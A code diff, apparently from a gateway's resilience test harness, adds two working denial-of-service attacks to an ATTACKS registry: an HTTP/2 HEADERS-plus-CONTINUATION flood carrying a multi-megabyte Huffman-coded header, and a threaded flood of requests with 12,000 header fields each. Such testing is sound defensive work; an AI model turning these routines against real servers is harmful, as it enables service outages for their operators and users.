@@ -823,6 +823,91 @@ def connection_flood(world: World, count: int = 2000, seconds: float = 20.0) -> 
     return outcome
 
 
+def _huffman_block(value_bytes: int) -> bytes:
+    """An HPACK block of a GET to the origin plus one `x-big` literal of `value_bytes` Huffman-coded
+    'a's, built directly (hpack's own encoder takes seconds for megabytes): 'a' is the 5-bit code
+    00011, so eight of them are the same 5 bytes."""
+    import hpack
+
+    head = hpack.Encoder().encode([(":method", "GET"), (":scheme", "https"), (":authority", ORIGIN_NAME),
+                                   (":path", "/ok")])
+    eight = int("00011" * 8, 2).to_bytes(5, "big")
+    data = eight * (value_bytes // 8)
+    name = b"x-big"
+    length, prefix = len(data), b""
+    if length < 127:
+        prefix = bytes([0x80 | length])
+    else:  # RFC 7541 5.1: a 7-bit prefix, then 7 bits a byte
+        prefix, rest = bytearray([0x80 | 127]), length - 127
+        while rest >= 128:
+            prefix.append((rest % 128) | 128)
+            rest //= 128
+        prefix.append(rest)
+    return head + b"\x00" + bytes([len(name)]) + name + bytes(prefix) + data
+
+
+_BIG_BLOCK: dict[int, bytes] = {}
+
+
+def h2_header_block(world: World, value_bytes: int = 8 << 20, seconds: float = 20.0) -> Outcome:
+    """Review 5's CONTINUATION attack: HEADERS + CONTINUATION frames of 128 KiB (the frame size the
+    gateway advertises) carrying one `value_bytes` Huffman value, the block ended, on one h2
+    connection; then reads until the gateway answers, sends GOAWAY or closes."""
+    from hyperframe.frame import ContinuationFrame, HeadersFrame
+
+    outcome = Outcome("h2_header_block")
+    block = _BIG_BLOCK.setdefault(value_bytes, _huffman_block(value_bytes))
+    piece = 1 << 17
+    pieces = [block[at:at + piece] for at in range(0, len(block), piece)][:64]
+    tls = tls_tunnel(world, world.attacker, ORIGIN_NAME, alpn="h2")
+    conn = _h2_connection()
+    deadline = time.monotonic() + seconds
+    try:
+        tls.sendall(conn.data_to_send())
+        for n, data in enumerate(pieces):
+            frame = (HeadersFrame if n == 0 else ContinuationFrame)(1, data)
+            frame.flags = ({"END_STREAM"} if n == 0 else set()) | ({"END_HEADERS"} if n == len(pieces) - 1 else set())
+            try:
+                tls.sendall(frame.serialize())
+            except (OSError, ssl.SSLError):
+                outcome.closed = True
+                break
+            outcome.sent += len(data)
+        while not outcome.closed and outcome.goaway is None and not outcome.statuses and time.monotonic() < deadline:
+            if not _h2_pump(tls, conn, outcome, None, wait=0.2):
+                break
+    except Exception as exc:  # the client's h2 state does not know of the raw stream: what came back is noted
+        outcome.notes.append(type(exc).__name__)
+    finally:
+        tls.close()
+    return outcome
+
+
+def many_header_fields(world: World, connections: int = 4, fields: int = 12_000, seconds: float = 20.0) -> Outcome:
+    """Review 5's many-fields attack: `connections` tunnels each send GETs of `fields` tiny `a:0`
+    headers (~60 KB, under the head size limit), one at a time, for `seconds` or until refused."""
+    outcome = Outcome("many_header_fields")
+    lock = threading.Lock()
+    deadline = time.monotonic() + seconds
+    request = (f"GET /ok HTTP/1.1\r\nHost: {ORIGIN_NAME}\r\n".encode() + b"a:0\r\n" * fields + b"\r\n")
+
+    def one() -> None:
+        while time.monotonic() < deadline:
+            with tls_tunnel(world, world.attacker, ORIGIN_NAME) as tls:
+                for _ in range(20):
+                    tls.sendall(request)
+                    status, headers, _ = read_response(tls)
+                    with lock:
+                        outcome.count(status)
+                        outcome.sent += 1
+                    if status != 200 or headers.get("connection", "").lower() == "close":
+                        return
+                    if time.monotonic() > deadline:
+                        return
+
+    return _on_threads(connections, one, seconds, outcome, lock)
+
+
 ATTACKS = {
     "h2_held_streams": h2_held_streams,
     "decompression_bomb": decompression_bomb,
@@ -833,6 +918,8 @@ ATTACKS = {
     "request_body_bomb": request_body_bomb,
     "streamed_bomb": streamed_bomb,
     "bound_lines": bound_lines,
+    "h2_header_block": h2_header_block,
+    "many_header_fields": many_header_fields,
 }
 
 
